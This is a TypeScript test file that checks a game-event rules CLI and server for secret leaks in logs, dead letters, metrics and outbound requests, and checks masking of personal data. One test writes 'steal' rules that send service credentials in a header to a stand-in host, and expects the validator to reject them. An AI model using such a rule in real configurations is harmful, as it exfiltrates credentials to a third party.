/**
 * Issue 16, "Secrets stay secret": every CLI command and the server at
 * LOG_LEVEL=trace (LOG_PAYLOADS=true), with recognizable secret values in the
 * environment (the AGS client secret, a webhook token, an API key, a Discord
 * webhook URL whose path is the credential), in the rules (headers, URL,
 * body) and in events (an email address). Every byte printed (stdout,
 * stderr), written (dead letters) and exposed (metrics scrape) is grepped for
 * them; every request is checked to carry only its own recipient's secrets
 * (the webhook gets its token and path, AGS its client secret, neither the
 * other's). The requests themselves go out whole.
 * Two commands run as the real bin (`test`, which fails, and `send`); the
 * others run in this process as the bin does (runCommand: runCli with the
 * redacting streams), and whatever is written meanwhile to this process's
 * stdout, stderr or console (what the bin would print beside its streams) is
 * grepped too.
 */
import { randomBytes } from 'node:crypto';
import http from 'node:http';
import type { IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { startAgsStandIn } from '../support/ags-stand-in.js';
import { DEFAULT_RECORD_KEY } from '../../src/store/cloudsave-state-store.js';
import type { AgsStandIn } from '../support/ags-stand-in.js';
import { assertBuilt, runBin, runCommand, startServer, waitFor, workspace } from '../cli/support.js';
import type { RunResult, RunningServer, Workspace } from '../cli/support.js';
import { maskPersonalFields } from '../../src/telemetry/mask.js';

const tag = randomBytes(4).toString('hex');
const SECRETS = {
  clientSecret: `client-secret-${tag}-QX`,
  webhookToken: `webhook-token-${tag}-QX`,
  apiKey: `partner-key-${tag}-QX`,
  discordPath: `discord-path-${tag}-QX`,
};
const EMAIL = `alice.${tag}@example.com`;
const USER = '0123456789abcdef0123456789abcdef';

interface Received {
  readonly method: string;
  readonly url: string;
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
}

describe('secrets stay secret: every CLI command and the server at trace level (issue 16)', () => {
  let ags: AgsStandIn;
  let receiver: http.Server;
  const received: Received[] = [];
  let hookBase: string;
  let ws: Workspace;
  let env: Record<string, string>;
  let server: RunningServer | undefined;
  const outputs: { what: string; text: string }[] = [];
  const record = (what: string, r: RunResult): RunResult => {
    outputs.push({ what: `${what} (stdout)`, text: r.stdout }, { what: `${what} (stderr)`, text: r.stderr });
    return r;
  };
  /** The command in this process (runCommand), recorded with what it wrote around its streams (see the header). */
  const inProcess = async (what: string, args: string[], opts: { cwd: string; env: Record<string, string> }): Promise<RunResult & { stray: string }> => {
    const spies = [
      vi.spyOn(process.stdout, 'write'),
      vi.spyOn(process.stderr, 'write'),
      ...(['log', 'info', 'warn', 'error', 'debug', 'trace'] as const).map((m) => vi.spyOn(console, m)),
    ];
    const strayText = () => spies.flatMap((s) => s.mock.calls.map((c) => c.map((a) => (typeof a === 'string' ? a : a instanceof Uint8Array ? Buffer.from(a).toString('utf8') : JSON.stringify(a) ?? String(a))).join(' '))).join('\n');
    let stray = '';
    try {
      const r = record(what, await runCommand(args, opts));
      stray = strayText();
      return { ...r, stray };
    } finally {
      stray ||= strayText();
      for (const s of spies) s.mockRestore();
      outputs.push({ what: `${what} (written beside its streams)`, text: stray });
    }
  };

  beforeAll(async () => {
    assertBuilt();
    ags = await startAgsStandIn({ clientSecret: SECRETS.clientSecret });
    receiver = http.createServer((req, res) => {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString()));
      req.on('end', () => {
        received.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
        if ((req.url ?? '').startsWith('/refuse')) {
          // a webhook that echoes the token it was sent in its error answer
          res.writeHead(400, { 'content-type': 'application/json' }).end(JSON.stringify({ message: `bad token ${SECRETS.webhookToken}` }));
        } else res.writeHead(204).end();
      });
    });
    await new Promise<void>((r) => receiver.listen(0, '127.0.0.1', r));
    hookBase = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}`;
    ws = workspace();
    env = {
      AB_BASE_URL: ags.url,
      AB_CLIENT_ID: ags.clientId,
      AB_CLIENT_SECRET: SECRETS.clientSecret,
      AB_NAMESPACE: 'mygame',
      DISCORD_WEBHOOK: `${hookBase}/api/webhooks/123/${SECRETS.discordPath}`,
      REFUSING_WEBHOOK: `${hookBase}/refuse/${SECRETS.discordPath}`,
      WEBHOOK_TOKEN: SECRETS.webhookToken,
      PARTNER_API_KEY: SECRETS.apiKey,
      LOG_LEVEL: 'trace',
      LOG_PAYLOADS: 'true',
      RULES_FILE: join(ws.dir, 'rules.yaml'),
    };
    writeFileSync(
      join(ws.dir, 'rules.yaml'),
      `version: 1
rules:
  - name: discord
    on: userLoggedIn
    do:
      - http:
          url: \${env.DISCORD_WEBHOOK}
          headers: { Authorization: "Bearer \${env.WEBHOOK_TOKEN}", X-Partner: "\${env.PARTNER_API_KEY}" }
          body: { content: "login \${event.userId}", token: "\${env.WEBHOOK_TOKEN}" }
  - name: discord-shadow
    on: userLoggedIn
    mode: shadow
    do:
      - http: { url: "\${env.DISCORD_WEBHOOK}?sig=\${env.PARTNER_API_KEY}", headers: { Authorization: "Bearer \${env.WEBHOOK_TOKEN}" } }
  - name: refused
    on: userLoggedIn
    do:
      - http: { url: "\${env.REFUSING_WEBHOOK}", body: { t: "\${env.WEBHOOK_TOKEN}" } }
  - name: grant
    on: userLoggedIn
    do:
      - grantItem: { itemId: item-1, quantity: 1 }
`,
    );
    writeFileSync(join(ws.dir, 'event.json'), JSON.stringify({ namespace: 'mygame', userId: USER, payload: { userAccount: { userId: USER, emailAddress: EMAIL } } }));
    writeFileSync(
      join(ws.dir, 'rules.test.yaml'),
      `version: 1
rules: rules.yaml
env:
  AB_NAMESPACE: mygame
  DISCORD_WEBHOOK: "${hookBase}/api/webhooks/123/${SECRETS.discordPath}"
  REFUSING_WEBHOOK: "${hookBase}/refuse/${SECRETS.discordPath}"
  WEBHOOK_TOKEN: "${SECRETS.webhookToken}"
  PARTNER_API_KEY: "${SECRETS.apiKey}"
cases:
  - name: a failing case prints its diff
    event: userLoggedIn
    data: { namespace: mygame, userId: ${USER} }
    expect:
      actions:
        - rule: discord
          action: http
          params: { url: "wrong", headers: { Authorization: "wrong" } }
  - name: a redacted expectation passes
    event: userLoggedIn
    data: { namespace: mygame, userId: ${USER} }
    expect:
      actions:
        - rule: discord
          action: http
          params:
            method: POST
            url: "${hookBase}/[redacted]"
            headers: { Authorization: "[redacted]", X-Partner: "[redacted]" }
            body: { content: "login ${USER}", token: "[redacted]" }
            timeoutMs: 10000
        - { rule: discord-shadow, action: http, mode: shadow }
        - { rule: refused, action: http }
        - { rule: grant, action: grantItem }
`,
    );
  });

  afterAll(async () => {
    await server?.stop();
    await ags?.close();
    await new Promise((r) => receiver?.close(r));
    ws?.remove();
  });

  it('prints, writes and sends no secret to anyone but its recipient', { timeout: 240_000 }, async () => {
    const cwd = ws.dir;
    // offline commands
    await inProcess('validate', ['validate'], { cwd, env });
    await inProcess('validate --format json', ['validate', '--format', 'json'], { cwd, env });
    const explain = await inProcess('explain', ['explain', 'userLoggedIn', '--data', 'event.json'], { cwd, env });
    expect(explain.code).toBe(0);
    expect(explain.stdout).toContain('[redacted]');
    const explainJson = await inProcess('explain --json', ['explain', 'userLoggedIn', '--data', 'event.json', '--json'], { cwd, env });
    expect(explainJson.code).toBe(0);
    expect(explainJson.stdout).toContain('"Authorization": "[redacted]"');
    // the bin itself
    const test = record('test', await runBin(['test'], { cwd, env }));
    expect(test.code).not.toBe(0); // the case fails on purpose: its diff shows the actual params
    expect(`${test.stdout}${test.stderr}`).toContain('[redacted]');
    expect(test.stdout).toMatch(/✓ a redacted expectation passes/); // tests compare params as displayed
    await inProcess('samples', ['samples', 'userLoggedIn'], { cwd, env });
    await inProcess('samples --list', ['samples', '--list'], { cwd, env });
    await inProcess('schema', ['schema'], { cwd, env });
    await inProcess('help', ['help'], { cwd, env });

    // the server, live: the webhook and AGS get their requests, one rule dead-letters
    server = await startServer(cwd, env);
    const target = `127.0.0.1:${server.port}`;
    const send = record('send', await runBin(['send', 'userLoggedIn', '--data', 'event.json', '--target', target], { cwd, env }));
    expect(send.code).toBe(0);
    // the default store (Cloud Save): dead letters live in the admin game record
    // (sharded over the game records `<key>-dl-<shard>-<page>`, issue 22.4)
    const deadLetters = (): string =>
      JSON.stringify(
        ags.cloudSave
          .adminRecordIds()
          .filter((id) => id.startsWith(`-/${DEFAULT_RECORD_KEY}-dl-`))
          .sort()
          .map((id) => ags.cloudSave.adminRecord(undefined, id.slice(2))?.value ?? null),
      );
    await waitFor('the dead letter', () => (deadLetters().includes('refused') ? true : undefined));
    const listed = await inProcess('dead-letters list --json', ['dead-letters', 'list', '--json'], { cwd, env });
    expect(listed.stdout).toContain('refused');
    await inProcess('dead-letters list', ['dead-letters', 'list'], { cwd, env });
    const firstLetter = deadLetters();
    const replayed = await inProcess('replay', ['replay', '--target', target], { cwd, env });
    expect(replayed.code, replayed.stderr).toBe(1); // refused again (below)
    // refused again: a newer dead letter replaces the first
    await waitFor('the replayed dead letter', () => (deadLetters() !== firstLetter && deadLetters().includes('refused') ? true : undefined));
    const metrics = await (await fetch(`http://127.0.0.1:${server.metricsPort}/metrics`)).text();
    await server.stop();
    outputs.push(
      { what: 'server stdout', text: server.lines().map((l) => JSON.stringify(l)).join('\n') },
      { what: 'server stderr', text: server.stderr() },
      { what: 'dead letters', text: deadLetters() },
      { what: 'metrics', text: metrics },
    );

    // the requests went out whole, each to its recipient
    const hook = received.find((r) => r.url.startsWith('/api/webhooks/'));
    expect(hook).toBeDefined();
    expect(hook!.url).toBe(`/api/webhooks/123/${SECRETS.discordPath}`);
    expect(hook!.headers.authorization).toBe(`Bearer ${SECRETS.webhookToken}`);
    expect(hook!.headers['x-partner']).toBe(SECRETS.apiKey);
    expect(ags.grants()).toBeGreaterThan(0);
    const accessTokens = ags.requests.map((r) => r.headers.authorization).filter((a): a is string => a?.startsWith('Bearer ') ?? false).map((a) => a.slice('Bearer '.length));
    expect(accessTokens.length).toBeGreaterThan(0);

    const everything = [...Object.values(SECRETS), ...new Set(accessTokens)];
    const leaks: string[] = [];
    for (const o of outputs) for (const s of everything) if (o.text.includes(s)) leaks.push(`${o.what} shows ${s}`);
    // personal data: masked in the server's logs (the dead letter keeps the event whole, for replay)
    for (const o of outputs.filter((x) => x.what.startsWith('server'))) if (o.text.includes(EMAIL)) leaks.push(`${o.what} shows ${EMAIL}`);
    // requests: AGS never sees the webhook's secrets, the webhook never sees AGS's
    for (const r of ags.requests) {
      const text = JSON.stringify(r);
      for (const s of [SECRETS.webhookToken, SECRETS.apiKey, SECRETS.discordPath]) if (text.includes(s)) leaks.push(`AGS received ${s}`);
    }
    for (const r of received) {
      const text = JSON.stringify(r);
      for (const s of [SECRETS.clientSecret, Buffer.from(`${ags.clientId}:${SECRETS.clientSecret}`).toString('base64'), ...accessTokens]) if (text.includes(s)) leaks.push(`the webhook received ${s}`);
    }
    expect(leaks).toEqual([]);
    // and what was shown is still useful: the plan of the shadow rule, the webhook's origin, the dead letter's reason
    const stdout = outputs.find((o) => o.what === 'server stdout')!.text;
    expect(stdout).toContain(`${hookBase}/[redacted]`);
    expect(outputs.find((o) => o.what === 'dead letters')!.text).toMatch(/bad token \[redacted\]/);
  });

  it('a rule cannot read the AGS credentials: a load error with a fix', async () => {
    for (const name of ['AB_CLIENT_SECRET', 'AB_CLIENT_ID', 'REDIS_URL']) {
      writeFileSync(
        join(ws.dir, `steal-${name}.yaml`),
        `version: 1
rules:
  - name: steal
    on: userLoggedIn
    do:
      - http: { url: "http://hooks.example/x", headers: { X-Steal: "\${env.${name}:-none}" } }
`,
      );
      const r = await inProcess(`validate steal-${name}.yaml`, ['validate', `steal-${name}.yaml`, '--format', 'json'], { cwd: ws.dir, env: { ...env, REDIS_URL: `redis://:${SECRETS.clientSecret}@127.0.0.1:1` } });
      expect(r.code).not.toBe(0);
      const problems = JSON.parse(r.stdout) as { code: string; message: string; fix?: string }[];
      expect(problems.map((p) => p.code)).toContain('forbidden-env');
      expect(problems.find((p) => p.code === 'forbidden-env')!.fix).toMatch(/WEBHOOK_TOKEN/);
      expect(`${r.stdout}${r.stderr}${r.stray}`).not.toContain(SECRETS.clientSecret);
    }
  });
});

describe('LOG_PAYLOADS masking: arrays and nesting (issue 16)', () => {
  it('masks personal keys whatever their value, and email/IP-looking strings under any key', () => {
    const masked = maskPersonalFields({
      userId: 'u1',
      emails: ['a@example.com', 'b@example.com'],
      clientIps: ['10.0.0.1', '2001:db8::1'],
      profile: { displayName: 'Alice', addresses: [{ street: '1 Main St', city: 'Paris' }], zip: '75001' },
      notes: ['contact me at carol@example.com'.split(' ').at(-1), 'plain'],
      lastLoginFrom: '192.168.1.20',
      count: 3,
    });
    expect(masked).toEqual({
      userId: 'u1',
      emails: ['***', '***'],
      clientIps: ['***', '***'],
      profile: { displayName: '***', addresses: [{ street: '***', city: '***' }], zip: '75001' },
      notes: ['***', 'plain'],
      lastLoginFrom: '***',
      count: 3,
    });
  });
});
